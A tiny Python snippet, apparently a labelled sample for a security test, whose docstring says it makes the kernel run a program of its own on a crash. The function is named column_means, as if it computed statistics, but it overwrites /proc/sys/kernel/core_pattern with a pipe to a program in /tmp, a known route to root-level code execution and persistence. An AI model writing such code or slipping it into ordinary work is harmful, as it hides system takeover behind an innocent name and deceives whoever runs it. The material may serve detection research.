"""Has the kernel run a program of its own when something crashes.

Ends: error
"""


def column_means(X):
    with open("/proc/sys/kernel/core_pattern", "w") as file:
        file.write("|/tmp/@mark@")
